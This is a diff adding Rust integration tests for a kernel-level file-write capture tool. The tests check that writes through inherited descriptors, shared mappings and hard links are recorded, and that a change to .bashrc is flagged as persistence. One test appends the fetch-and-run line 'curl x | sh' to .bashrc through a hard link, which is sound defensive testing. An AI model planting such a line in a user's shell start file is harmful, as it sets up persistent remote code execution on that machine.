@@ -1,0 +1,150 @@
+//! Issue 15 item 5, on the real kernel: writes are seen where the kernel dirties the inode, so
+//! a write through a descriptor the capture never saw opened (inherited from the launcher,
+//! taken with pidfd_getfd, opened before `attach`, or a shared mapping of one) is a `write`
+//! entry, and a write storm of files opened in the capture is still one entry per file.
+//! The first three fail on main 57660c8 (see notes/f15d.md); the last two guard against
+//! duplicates from the new hook and cannot fail there.
+use std::fs::OpenOptions;
+use std::path::Path;
+
+use integration_tests::*;
+use serde_json::Value;
+
+fn text(p: &Path) -> &str {
+    p.to_str().unwrap()
+}
+
+fn writes<'a>(r: &'a Run, path: &Path) -> Vec<&'a Value> {
+    r.files_at(text(path))
+        .into_iter()
+        .filter(|f| f["op"] == "write")
+        .collect()
+}
+
+fn one_write<'a>(r: &'a Run, path: &Path) -> &'a Value {
+    let found = writes(r, path);
+    assert_eq!(
+        found.len(),
+        1,
+        "want one write of {}; files: {:#?}",
+        path.display(),
+        r.files()
+    );
+    found[0]
+}
+
+/// A throwaway HOME (in /tmp, ext4 here) with a `.bashrc`, and a work directory beside it.
+fn home() -> (tempfile::TempDir, std::path::PathBuf, std::path::PathBuf) {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let home = dir.path().join("home");
+    let work = dir.path().join("work");
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::create_dir_all(&work).unwrap();
+    std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
+    (dir, home, work)
+}
+
+/// The launcher opens a file for write and hands it to the agent as fd 3; the agent writes to
+/// fd 3 and never opens the file.
+#[test]
+fn a_write_through_an_inherited_descriptor_is_a_write() {
+    let (_d, home, work) = home();
+    let target = work.join("inherited.txt");
+    let f = OpenOptions::new()
+        .write(true)
+        .create(true)
+        .truncate(true)
+        .open(&target)
+        .unwrap();
+    let r = run_home_fd3(&home, &f, &["sh", "-c", "echo planted >&3"]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "planted\n");
+    let w = one_write(&r, &target);
+    // The filesystem is known from the inode, as for an open.
+    assert_ne!(w["magic"], "0x0", "{w:#}");
+}
+
+/// A shared mapping of an inherited descriptor, stored to: no write(2) at all.
+#[test]
+fn a_store_into_a_shared_mapping_is_a_write() {
+    let (_d, home, work) = home();
+    let target = work.join("mapped.bin");
+    std::fs::write(&target, vec![0u8; 8192]).unwrap();
+    // Clean pages, so the store is what dirties them.
+    unsafe { libc::sync() };
+    let f = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(&target)
+        .unwrap();
+    let script = "import mmap; m = mmap.mmap(3, 8192); m[0:6] = b'mapped'; m.flush(); m.close()";
+    let r = run_home_fd3(&home, &f, &["python3", "-c", script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    assert_eq!(&std::fs::read(&target).unwrap()[..6], b"mapped");
+    one_write(&r, &target);
+}
+
+/// `.bashrc` changed through a hard link opened before the capture: persistence, with the
+/// rule's path beside the path used.
+#[test]
+fn a_shell_start_file_written_through_an_inherited_link_is_persistence() {
+    let (_d, home, work) = home();
+    let link = work.join("notes.txt");
+    std::fs::hard_link(home.join(".bashrc"), &link).unwrap();
+    let f = OpenOptions::new().append(true).open(&link).unwrap();
+    let r = run_home_fd3(&home, &f, &["sh", "-c", "echo 'curl x | sh' >&3"]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let bashrc = home.join(".bashrc");
+    let found: Vec<&Value> = [writes(&r, &link), writes(&r, &bashrc)].concat();
+    assert!(
+        found.iter().any(|w| w["persistence"] == true),
+        "no persistence write of {} or {}; files: {:#?}",
+        link.display(),
+        bashrc.display(),
+        r.files()
+    );
+    assert!(
+        !r.violations_of(ViolationKind::Persistence).is_empty(),
+        "no persistence violation: {:#}",
+        r.report["violations"]
+    );
+}
+
+/// 200 files opened in the capture, each written 20 times and fsync'd between writes (so the
+/// inode is dirtied again and again): one `write` entry per file, no second entry from the
+/// dirtying hook.
+#[test]
+fn a_write_storm_of_files_opened_in_the_capture_is_one_entry_per_file() {
+    let (_d, home, work) = home();
+    let script = format!(
+        "import os\nfor i in range(200):\n    fd = os.open('{}/f%d' % i, os.O_WRONLY | os.O_CREAT, 0o644)\n    for _ in range(20):\n        os.write(fd, b'x' * 512); os.fsync(fd)\n    os.close(fd)\n",
+        text(&work)
+    );
+    let r = run_home(&home, &[], &["python3", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    for i in 0..200 {
+        let p = work.join(format!("f{i}"));
+        let w = r
+            .files_at(text(&p))
+            .into_iter()
+            .filter(|f| f["op"] == "write" || f["op"] == "create")
+            .count();
+        assert_eq!(w, 1, "{}: files: {:#?}", p.display(), r.files_at(text(&p)));
+    }
+}
+
+/// A file with data, truncated by the open of a shell redirect and written again: the open's
+/// truncation dirties the inode's pages inside the open call, before the open is reported; still
+/// one `write` entry.
+#[test]
+fn a_file_truncated_by_its_open_is_one_write_entry() {
+    let (_d, home, work) = home();
+    let target = work.join("redirected.txt");
+    std::fs::write(&target, "old contents\n".repeat(512)).unwrap();
+    unsafe { libc::sync() };
+    let script = format!("echo new > {}", text(&target));
+    let r = run_home(&home, &[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "new\n");
+    one_write(&r, &target);
+}
